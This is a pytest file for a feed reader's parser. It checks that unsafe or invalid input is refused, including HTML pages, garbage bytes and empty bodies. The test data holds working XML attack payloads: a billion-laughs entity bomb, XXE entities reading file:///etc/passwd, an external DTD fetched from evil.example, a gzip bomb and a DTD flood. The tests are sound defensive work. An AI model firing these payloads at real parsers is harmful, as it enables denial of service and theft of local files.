"""What parse_feed refuses, and how: unsafe XML, HTML pages, garbage, empty bodies; and the cheap sniff."""

from __future__ import annotations

import gzip
import resource
from collections.abc import Callable

import pytest

from broadsheet.errors import FeedError, UnsafeXMLError
from broadsheet.sources import looks_like_feed, parse_feed

Read = Callable[[str], bytes]

BILLION_LAUGHS = b"""<?xml version="1.0"?>
<!DOCTYPE rss [
  <!ENTITY lol "lol">
  <!ENTITY lol1 "&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;">
  <!ENTITY lol2 "&lol1;&lol1;&lol1;&lol1;&lol1;&lol1;&lol1;&lol1;&lol1;&lol1;">
  <!ENTITY lol3 "&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;">
  <!ENTITY lol4 "&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;">
  <!ENTITY lol5 "&lol4;&lol4;&lol4;&lol4;&lol4;&lol4;&lol4;&lol4;&lol4;&lol4;">
  <!ENTITY lol6 "&lol5;&lol5;&lol5;&lol5;&lol5;&lol5;&lol5;&lol5;&lol5;&lol5;">
  <!ENTITY lol7 "&lol6;&lol6;&lol6;&lol6;&lol6;&lol6;&lol6;&lol6;&lol6;&lol6;">
  <!ENTITY lol8 "&lol7;&lol7;&lol7;&lol7;&lol7;&lol7;&lol7;&lol7;&lol7;&lol7;">
  <!ENTITY lol9 "&lol8;&lol8;&lol8;&lol8;&lol8;&lol8;&lol8;&lol8;&lol8;&lol8;">
]>
<rss version="2.0"><channel><title>&lol9;</title>
<item><title>&lol9;</title><link>https://laughs.example.com/1</link></item></channel></rss>"""


def test_billion_laughs_feed_is_refused() -> None:
    rss_before = resource.getrusage(resource.RUSAGE_SELF).ru_maxrss
    with pytest.raises(UnsafeXMLError, match="entities"):
        parse_feed(BILLION_LAUGHS, "https://laughs.example.com/feed")
    grown_kib = resource.getrusage(resource.RUSAGE_SELF).ru_maxrss - rss_before
    assert grown_kib < 50_000, f"peak memory grew by {grown_kib} KiB"


def test_xxe_system_entity_is_refused() -> None:
    body = b"""<?xml version="1.0"?>
<!DOCTYPE rss [<!ENTITY xxe SYSTEM "file:///etc/passwd">]>
<rss version="2.0"><channel><title>&xxe;</title></channel></rss>"""
    with pytest.raises(UnsafeXMLError):
        parse_feed(body, "https://xxe.example.com/feed")


def test_parameter_entity_in_utf16_feed_is_refused() -> None:
    body = (
        '<?xml version="1.0" encoding="utf-16"?>'
        '<!DOCTYPE rss [<!ENTITY % p SYSTEM "http://evil.example/x.dtd"> %p;]><rss/>'
    )
    with pytest.raises(UnsafeXMLError):
        parse_feed(body.encode("utf-16"), "https://xxe.example.com/feed")


def test_doctype_pointing_at_a_local_file_is_refused() -> None:
    body = b'<!DOCTYPE rss SYSTEM "file:///etc/passwd"><rss version="2.0"><channel/></rss>'
    with pytest.raises(UnsafeXMLError, match="DTD"):
        parse_feed(body, "https://xxe.example.com/feed")


def test_entities_behind_junk_before_the_root_are_refused() -> None:
    body = b'PHP Warning: oops\n<!DOCTYPE rss [<!ENTITY a "b">]><rss version="2.0"><channel/></rss>'
    with pytest.raises(UnsafeXMLError):
        parse_feed(body, "https://junk.example.com/feed")


def test_entity_text_inside_article_content_is_not_mistaken_for_a_declaration() -> None:
    body = (
        b'<?xml version="1.0"?><rss version="2.0"><channel><title>XML tips</title>'
        b"<item><title>On entities</title>"
        b"<link>https://tips.example.com/1</link><description><![CDATA[Never trust <!ENTITY lol ...>]]>"
        b"</description></item></channel></rss>"
    )
    assert parse_feed(body, "https://tips.example.com/feed").entries[0].url == "https://tips.example.com/1"


def test_html_page_is_refused_with_a_pointer_to_discovery() -> None:
    page = b"<!DOCTYPE html><html><head><title>Home</title></head><body><p>Hi</p></body></html>"
    with pytest.raises(FeedError, match=r"HTML page, not a feed.*discover"):
        parse_feed(page, "https://site.example.com/", "application/rss+xml")


def test_html_without_doctype_or_root_first_is_refused_as_html(fixture_bytes: Read) -> None:
    page = b"\n\n  Some text before <html><body>hello</body></html>"
    with pytest.raises(FeedError, match="HTML page"):
        parse_feed(page, "https://site.example.com/", "text/html")


@pytest.mark.parametrize("body", [b"\x00\x01\x02garbage\xff\xfe", b"just some words", b"<<<>>>"])
def test_garbage_bytes_are_refused(body: bytes) -> None:
    with pytest.raises(FeedError):
        parse_feed(body, "https://garbage.example.com/feed")


@pytest.mark.parametrize("body", [b"", b"   \n\t "])
def test_empty_body_is_refused(body: bytes) -> None:
    with pytest.raises(FeedError, match="empty body"):
        parse_feed(body, "https://empty.example.com/feed")


def test_malformed_feed_with_nothing_usable_names_the_parser_complaint() -> None:
    with pytest.raises(
        FeedError, match=r"^not a valid feed: not well-formed XML at line 1, column \d+: .*ti"
    ):
        parse_feed(b'<?xml version="1.0"?><rss version="2.0"><channel><ti', "https://broken.example.com/feed")


def test_broken_feed_whose_only_entry_lost_its_link_is_not_a_valid_feed() -> None:
    # feedparser's lenient parser recovers an <item> from this, but nothing a reader could open.
    with pytest.raises(FeedError) as caught:
        parse_feed(b"<rss><channel><item><title>broken & <b>unclosed", "https://broken.example.com/feed")
    message = str(caught.value)
    assert message.startswith("not a valid feed: not well-formed XML at line 1, column 36: ")
    assert 'a bare "&" (it must be written "&amp;")' in message
    assert "nothing usable could be read from https://broken.example.com/feed" in message


def test_feed_with_a_minor_error_keeps_what_could_be_read_and_says_so() -> None:
    body = (
        b'<?xml version="1.0"?>\n<rss version="2.0"><channel><title>Harbour notes</title>\n'
        b"<item><title>Tides</title><link>https://harbour.example.com/tides</link></item>\n"
        b"<item><title>Boats & nets</title><link>https://harbour.example.com/nets</link></item>\n"
        b"</channel></rss>"
    )
    feed = parse_feed(body, "https://harbour.example.com/feed")
    assert [e.url for e in feed.entries] == [
        "https://harbour.example.com/tides",
        "https://harbour.example.com/nets",
    ]
    assert feed.problems.startswith("not well-formed XML at line 4, column ")
    assert feed.warning.startswith("the feed has errors (not well-formed XML at line 4")
    assert feed.warning.endswith("; 2 entries could be read")


def test_clean_feed_has_no_warning(fixture_bytes: Read) -> None:
    feed = parse_feed(fixture_bytes("rss20_full.xml"), "https://news.example.com/rss")
    assert feed.entries and feed.problems == "" and feed.warning == ""


def test_feed_whose_entries_have_no_address_is_refused() -> None:
    body = b'<rss version="2.0"><channel><title>T</title><item><title>No link</title></item></channel></rss>'
    with pytest.raises(FeedError, match="lists 1 entries, but none has an http"):
        parse_feed(body, "https://nolinks.example.com/feed")


def test_valid_feed_with_no_entries_yet_is_accepted() -> None:
    feed = parse_feed(
        b'<rss version="2.0"><channel><title>New</title></channel></rss>', "https://new.example.com/"
    )
    assert feed.title == "New" and feed.entries == () and feed.warning == ""


def test_cut_off_sitemap_keeps_its_urls_and_says_where_it_broke() -> None:
    body = (
        b'<?xml version="1.0"?>\n<urlset xmlns="http://www.sitemaps.org/schemas/sitemap/0.9">\n'
        b"<url><loc>https://maps.example.com/a</loc></url>\n<url><loc>https://maps.example.com/b</lo"
    )
    feed = parse_feed(body, "https://maps.example.com/sitemap.xml")
    assert "https://maps.example.com/a" in [e.url for e in feed.entries]
    assert feed.problems.startswith("not well-formed XML at line 4, column ")


def test_xml_that_is_no_feed_is_refused() -> None:
    with pytest.raises(FeedError, match="neither RSS nor Atom"):
        parse_feed(b"<?xml version='1.0'?><catalog><book/></catalog>", "https://books.example.com/x.xml")


def test_opml_given_as_feed_says_to_import_it(fixture_bytes: Read) -> None:
    with pytest.raises(FeedError, match="import it as OPML"):
        parse_feed(fixture_bytes("subscriptions.opml"), "https://me.example.com/subs.opml")


def test_gzip_bomb_is_refused() -> None:
    bomb = gzip.compress(b"<urlset>" + b" " * (60 * 1024 * 1024), compresslevel=1)
    with pytest.raises(FeedError, match="inflates to more than"):
        parse_feed(bomb, "https://bomb.example.com/sitemap.xml.gz")


@pytest.mark.parametrize(
    "name",
    ["rss091_netscape.xml", "rss10_rdf.xml", "atom10_base.xml", "jsonfeed11.json", "sitemap_index.xml"],
)
def test_looks_like_feed_recognises_feeds_and_sitemaps(fixture_bytes: Read, name: str) -> None:
    assert looks_like_feed(fixture_bytes(name))


@pytest.mark.parametrize(
    "body",
    [b"<!DOCTYPE html><html></html>", b'{"posts": []}', b"", b"hello", b"<opml version='2.0'/>"],
)
def test_looks_like_feed_rejects_other_documents(body: bytes) -> None:
    assert not looks_like_feed(body, "text/html")


def test_looks_like_feed_uses_content_type_when_junk_precedes_the_xml() -> None:
    body = b"Notice: undefined index\n<?xml version='1.0'?><rss version='2.0'></rss>"
    assert looks_like_feed(body, "application/rss+xml; charset=utf-8")
    assert not looks_like_feed(body, "text/plain")


def test_megabytes_of_dtd_before_the_root_are_refused_fast() -> None:
    body = b"<!DOCTYPE rss [" + b'<!ATTLIST item x CDATA "y">' * 60_000 + b"]><rss version='2.0'/>"
    with pytest.raises(UnsafeXMLError, match="declarations before its first element"):
        parse_feed(body, "https://dtd.example.com/feed")
